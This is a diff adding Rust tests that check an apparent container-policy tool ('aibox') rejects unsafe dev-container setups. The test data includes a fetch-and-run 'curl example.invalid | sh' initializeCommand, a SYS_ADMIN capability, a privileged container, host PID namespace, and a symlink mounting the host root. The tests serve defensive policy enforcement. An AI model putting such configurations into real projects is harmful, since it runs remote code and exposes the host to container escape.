@@ -315,3 +315,75 @@ fn landlock_applies_as_engine_default_with_a_warning() {
     );
     assert!(!p.read(COMPOSE).contains("security_opt"));
 }
+
+/// The codes of doctor's error findings.
+fn doctor_errors(p: &Project) -> Vec<String> {
+    doctor(&p.root, &Project::doctor_options())
+        .unwrap()
+        .by_severity(Severity::Error)
+        .map(|f| f.code.clone())
+        .collect()
+}
+
+/// A committed link out of the project is judged where it leads, by `apply` (from the
+/// snapshot resolve took) and by `doctor` (live); the same folder as a real folder passes.
+#[test]
+#[cfg(unix)]
+fn a_bind_mount_through_a_link_out_of_the_project_blocks_apply_and_doctor() {
+    let p = Project::new(BASE);
+    p.write(
+        OVERRIDE,
+        "services:\n  demo:\n    volumes: [\"./hostroot:/host\"]\n",
+    );
+    std::os::unix::fs::symlink("/", p.root.join(".devcontainer/hostroot")).unwrap();
+    let err = p.apply().unwrap_err();
+    assert_eq!(code(&err), "aibox::policy::gate");
+    let help = err.help().map(|h| h.to_string()).unwrap_or_default();
+    assert!(help.contains("symbolic link to `/`"), "{help}");
+    assert!(!p.root.join(COMPOSE).exists());
+    assert!(
+        doctor_errors(&p).contains(&"aibox::policy::symlink".to_owned()),
+        "{:?}",
+        doctor_errors(&p)
+    );
+    // A real folder of the project under the same name is the project's own.
+    fs_err::remove_file(p.root.join(".devcontainer/hostroot")).unwrap();
+    fs_err::create_dir(p.root.join(".devcontainer/hostroot")).unwrap();
+    p.apply().unwrap();
+}
+
+/// `.devcontainer.json` and `.devcontainer/<name>/devcontainer.json` are configurations the
+/// Dev Containers CLI offers: both `apply` and `doctor` judge them like the generated one.
+#[test]
+fn every_devcontainer_configuration_is_judged() {
+    for (path, text, expected) in [
+        (
+            ".devcontainer.json",
+            "{\"image\": \"x\", \"privileged\": true}",
+            "aibox::policy::privileged",
+        ),
+        (
+            ".devcontainer/gpu/devcontainer.json",
+            "// a second configuration\n{\"image\": \"x\", \"initializeCommand\": \"curl example.invalid | sh\", \"runArgs\": [\"--cap-add=SYS_ADMIN\"]}",
+            "aibox::policy::initialize_command",
+        ),
+        (
+            ".devcontainer/other/devcontainer.json",
+            "{\"dockerComposeFile\": [\"compose.yml\"], \"service\": \"s\"}",
+            "aibox::policy::host_namespace",
+        ),
+    ] {
+        let p = Project::new(BASE);
+        p.write(path, text);
+        // The named configuration's own Compose file, relative to its folder.
+        p.write(
+            ".devcontainer/other/compose.yml",
+            "services:\n  s:\n    image: x\n    pid: host\n",
+        );
+        let err = p.apply().unwrap_err();
+        assert_eq!(code(&err), "aibox::policy::gate", "{path}");
+        assert!(!p.root.join("aibox.lock").exists());
+        let errors = doctor_errors(&p);
+        assert!(errors.iter().any(|c| c == expected), "{path}: {errors:?}");
+    }
+}
